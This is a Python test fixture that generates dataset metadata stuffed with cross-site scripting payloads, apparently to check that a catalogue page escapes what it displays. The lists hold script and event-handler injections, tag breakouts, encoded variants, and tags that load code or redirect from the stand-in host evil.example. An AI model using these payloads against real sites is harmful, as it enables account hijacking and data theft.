"""What metadata may hold that a page must show and not obey."""

CALL = "alert(1)"

# Elements that run or load something, ends of what they may stand in, and other spellings of both.
ELEMENTS = [
    f"<script>{CALL}</script>", f"<SCRIPT>{CALL}</SCRIPT>", f"<script src=//evil.example/x.js></script>",
    f"<img src=x onerror={CALL}>", f"<img src=//evil.example/p.png>", f"<image src=x onerror={CALL}>",
    f"<svg onload={CALL}>", f"<svg><script>{CALL}</script></svg>", f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
    f"<svg><set onbegin={CALL} attributeName=x>", f"<svg><use href=data:image/svg+xml,x#x></svg>",
    f"<svg><a xlink:href=javascript:{CALL}><text y=9>x</text></a></svg>", f"<svg><title><script>{CALL}</script>",
    f"<svg><desc><img src=x onerror={CALL}></desc></svg>", f"<svg><foreignObject><img src=x onerror={CALL}>",
    f"<math><mi xlink:href=javascript:{CALL}>x", f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>", f"<iframe src=javascript:{CALL}></iframe>",
    f"<object data=javascript:{CALL}></object>", f"<embed src=javascript:{CALL}>", f"<video><source onerror={CALL}>",
    f"<audio src=x onerror={CALL}>", f"<body onload={CALL}>", f"<input autofocus onfocus={CALL}>",
    f"<details open ontoggle={CALL}>", f"<marquee onstart={CALL}>", f"<form action=javascript:{CALL}><button>go</button></form>",
    f"<button formaction=javascript:{CALL}>go", f"<a href=javascript:{CALL}>go</a>", f"<a href=' javascript:{CALL}'>go</a>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import'//evil.example/x.css'</style>",
    f"<template><script>{CALL}</script></template>", f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",
    f"<xmp><img src=x onerror={CALL}></xmp>", f"<plaintext><img src=x onerror={CALL}>", f"<img/src=x/onerror={CALL}>",
    f"<<script>{CALL};//<</script>", f"<script\n>{CALL}</script\n>", f"<img src=x onerror=\n{CALL}>",
]
ENDS = [
    f"</script><script>{CALL}</script>", f"</SCRIPT ><img src=x onerror={CALL}>", f"<!--<script>{CALL}", f"--><img src=x onerror={CALL}>",
    f"<!--><img src=x onerror={CALL}>", f"<![CDATA[<img src=x onerror={CALL}>]]>", f"<?x ><img src=x onerror={CALL}>",
    f"</title><img src=x onerror={CALL}>", f"</style><img src=x onerror={CALL}>", f"</textarea><img src=x onerror={CALL}>",
    f"</pre></td></table><img src=x onerror={CALL}>", f"</bdi></svg></desc><img src=x onerror={CALL}>",
    f"]]></desc><script>{CALL}</script>",
]
ATTRIBUTES = [
    f'" onmouseover="{CALL}', f"' onmouseover='{CALL}", f"` onmouseover={CALL} `", f'"><img src=x onerror={CALL}>',
    f"'><img src=x onerror={CALL}>", f'" autofocus onfocus={CALL} x="', f'" style="background:url(//evil.example/x)',
    f"javascript:{CALL}", f"JaVaScRiPt:{CALL}", f"java\tscript:{CALL}", f"data:text/html,<script>{CALL}</script>",
    f"vbscript:{CALL}",
]
SPELLINGS = [
    f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-", f"&lt;script&gt;{CALL}&lt;/script&gt;", f"&#60;img src=x onerror={CALL}&#62;",
    f"\\u003cscript\\u003e{CALL}", f"%3Cscript%3E{CALL}", f"<scr\0ipt>{CALL}</scr\0ipt>", f"<img src=x\0 onerror={CALL}>",
    f"\ufeff<script>{CALL}</script>", f"\u202e<script>{CALL}</script>", f"\u2028<script>{CALL}</script>\u2029",
    f"＜script＞{CALL}＜/script＞", f"{{{{constructor.constructor('{CALL}')()}}}}", f"${{{CALL}}}", f"<%= {CALL} %>", f"#{{{CALL}}}",
]
ALL = ELEMENTS + ENDS + ATTRIBUTES + SPELLINGS


def document(schema, text):
    """A value of a JSON Schema with every member there is, and `text` wherever any text may stand. Fields are left out: they
    go on for ever."""
    shape = schema.get("type")
    if "enum" in schema:
        return schema["enum"][0]
    if shape == "object":
        members = {key: inner for key, inner in schema.get("properties", {}).items() if not is_of_fields(inner)}
        return {key: document(inner, text) for key, inner in members.items()} or {text: text}
    if shape == "array":
        return [document(schema["items"], text)]
    if shape in ("boolean", "integer", "number"):
        return shape == "boolean" or 1
    return "2027-01-01" if schema.get("format") == "date" else text


def is_of_fields(schema):
    return "$ref" in schema or "$ref" in schema.get("items", {})


def sides(schema, text):
    """A dataset both of whose sides hold `text` in every member, followed by a digit that differs; and one that reads it."""

    def side(digit):
        whole = document(schema, text + digit)
        # Without origins nothing limits which members a snapshot may have.
        del whole["origins"]
        field = {**document(schema["$defs"]["field"], text + digit), "name": text}
        gone = {"name": text + digit, "type": text + digit}
        readers = [{"name": text, "namespace": text}]
        identity = {"lumos": "dataset/1", "namespace": text, "name": text, "upstream": [], "fields": [field, gone]}
        reader = {"lumos": "dataset/1", "kind": "consumer", "namespace": text, "name": text + " reader", "title": text}
        return [{**whole, **identity}, {**reader, "upstream": readers, "owners": [{"id": text}]}]

    return side("1"), side("2")
